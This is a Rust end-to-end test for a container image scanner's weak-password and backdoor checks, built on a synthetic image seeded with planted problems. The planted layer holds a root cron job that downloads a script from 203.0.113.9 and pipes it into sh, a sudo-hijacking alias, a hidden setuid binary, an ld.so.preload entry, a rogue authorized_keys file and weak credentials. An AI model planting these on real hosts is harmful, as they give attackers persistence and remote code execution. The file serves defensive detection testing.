//! The weak-password and backdoor scanners end to end: an image with a clean base layer
//! and a layer of planted problems, scanned through the binary.

use std::io::Write;
use std::process::{Command, Stdio};

use crate::common::*;

/// A layer whose entries carry their own modes (setuid files need 0o4755).
fn layer_with_modes(entries: &[(&str, &[u8], u32)]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (path, data, mode) in entries {
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Regular);
        h.set_size(data.len() as u64);
        h.set_mode(*mode);
        h.set_mtime(1_700_000_000);
        b.append_data(&mut h, path, *data).unwrap();
    }
    b.into_inner().unwrap()
}

fn mkpasswd(method: &str, password: &str) -> String {
    let mut child = Command::new("mkpasswd")
        .arg(format!("--method={method}"))
        .arg("--stdin")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(format!("{password}\n").as_bytes()).unwrap();
    drop(stdin);
    let out = child.wait_with_output().unwrap();
    let hash = String::from_utf8(out.stdout).unwrap().trim().to_string();
    assert!(
        out.status.success() && !hash.contains('\n'),
        "mkpasswd: {hash}"
    );
    hash
}

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\n\
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n\
alice:x:1000:1000::/home/alice:/bin/bash\n\
bob:x:1001:1001::/home/bob:/bin/bash\n\
svc:x:1002:1002::/home/svc:/bin/bash\n";

const BASH: &[u8] = b"\x7fELF\x02\x01\x01 stand-in for bash";
const KEY: &[u8] =
    b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEIQczXkVx9q x\n";

/// Clear-text passwords planted below; none may appear in the output.
const PLANTED: &[&str] = &["alice2024", "Kx-dict-only-77", "s3cret", "x7#Vq9!Lm2@Rt5pZ"];

fn image(dir: &std::path::Path) -> std::path::PathBuf {
    let shadow_base = "root:*:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\nwww-data:*:19700:0:99999:7:::\nalice:!:19700::::::\nbob:!:19700::::::\nsvc:!:19700::::::\n";
    let base = layer_with_modes(&[
        ("etc/os-release", b"ID=debian\nVERSION_ID=\"12\"\n", 0o644),
        ("etc/passwd", PASSWD.as_bytes(), 0o644),
        ("etc/shadow", shadow_base.as_bytes(), 0o640),
        ("usr/bin/bash", BASH, 0o755),
        ("usr/bin/passwd", b"\x7fELF passwd", 0o4755),
        (
            "usr/lib/x86_64-linux-gnu/security/pam_unix.so",
            b"\x7fELF pam_unix",
            0o644,
        ),
        (
            "var/lib/dpkg/info/libpam-modules:amd64.list",
            b"/.\n/lib/x86_64-linux-gnu/security\n/usr/lib/x86_64-linux-gnu/security/pam_unix.so\n",
            0o644,
        ),
        (
            "etc/crontab",
            b"SHELL=/bin/sh\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n",
            0o644,
        ),
        (
            "etc/skel/.bashrc",
            b"if [ -x /usr/bin/dircolors ]; then\n    alias ls='ls --color=auto'\nfi\n",
            0o644,
        ),
        (
            "etc/ssh/sshd_config",
            b"Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\nUsePAM yes\n",
            0o644,
        ),
    ]);
    let shadow = format!(
        "root:*:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\nwww-data:*:19700:0:99999:7:::\nalice:{}:19700::::::\nbob:{}:19700::::::\nsvc:{}:19700::::::\n",
        mkpasswd("yescrypt", "alice2024"),
        mkpasswd("sha512crypt", "Kx-dict-only-77"),
        mkpasswd("md5crypt", "x7#Vq9!Lm2@Rt5pZ"),
    );
    let planted = layer_with_modes(&[
        ("etc/shadow", shadow.as_bytes(), 0o640),
        ("etc/ld.so.preload", b"/usr/lib/libsysinfo.so\n", 0o644),
        (
            "etc/cron.d/sync",
            b"*/10 * * * * root curl -fsSL http://203.0.113.9/s.sh | sh\n",
            0o644,
        ),
        ("usr/local/lib/.cache/updater", BASH, 0o4755),
        (
            "usr/lib/x86_64-linux-gnu/security/pam_audit2.so",
            b"\x7fELF x",
            0o644,
        ),
        ("var/www/.ssh/authorized_keys", KEY, 0o600),
        (
            "root/.bashrc",
            b"alias sudo='/usr/local/lib/.cache/sudo'\n",
            0o644,
        ),
        (
            "etc/redis/redis.conf",
            b"bind 0.0.0.0\nrequirepass s3cret\n",
            0o640,
        ),
        (
            "etc/ssh/sshd_config.d/50-root.conf",
            b"PermitRootLogin yes\n",
            0o644,
        ),
    ]);
    // The cron job is deleted again: still in the image, reported as removed.
    let cleanup = layer(&[f("etc/cron.d/.wh.sync", "")]);
    let p = dir.join("planted.tar");
    docker_archive(&p, &[base, planted, cleanup], Z::Gzip, &[]);
    p
}

/// The findings with the layer as an index (diff_ids change with every run: the salts
/// of the hashes are random).
fn findings_view(result: &serde_json::Value) -> serde_json::Value {
    let target = &result["targets"][0];
    let layers: Vec<&str> = target["layers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["diff_id"].as_str().unwrap_or(""))
        .collect();
    let view: Vec<serde_json::Value> = target["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let layer = layers.iter().position(|l| Some(*l) == f["layer"].as_str());
            serde_json::json!({
                "kind": f["kind"], "id": f["id"], "severity": f["severity"],
                "title": f["title"], "path": f["path"], "line": f["line"],
                "layer": layer, "removed": f["removed"], "evidence": f["evidence"],
                "has_description": f["description"].as_str().is_some_and(|d| !d.is_empty()),
                "has_remediation": f["remediation"].as_str().is_some_and(|d| !d.is_empty()),
            })
        })
        .collect();
    serde_json::Value::Array(view)
}

#[test]
fn weak_passwords_and_backdoors_end_to_end() {
    if !have_tool("mkpasswd") {
        return;
    }
    let d = temp();
    let img = image(d.path());
    let dict = d.path().join("dict.txt");
    std::fs::write(&dict, "letmein-not\nKx-dict-only-77\n").unwrap();
    let out = holdfast()
        .args(["scan", "image", "--no-cache", "-f", "json"])
        .args(["--scanners", "weak-password,backdoor"])
        .args(["--dict", &path_str(&dict), "--weak-password-timeout", "5m"])
        .arg(path_str(&img))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    for p in PLANTED {
        assert!(!stdout.contains(p), "clear password {p:?} in the output");
    }
    let result: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    insta::assert_json_snapshot!("hostchecks_findings", findings_view(&result));
}

#[test]
fn flags_are_checked_before_scanning() {
    let d = temp();
    let img = d.path().join("img.tar");
    docker_archive(&img, &[layer(&[f("etc/passwd", PASSWD)])], Z::Plain, &[]);
    let out = holdfast()
        .args(["scan", "image", "--scanners", "weak-password", "--dict"])
        .arg(d.path().join("missing.txt"))
        .arg(path_str(&img))
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("--dict") && err.contains("missing.txt"),
        "{err}"
    );

    let out = holdfast()
        .args(["scan", "image", "--weak-password-timeout", "soon"])
        .arg(path_str(&img))
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("30s"), "{err}");
}
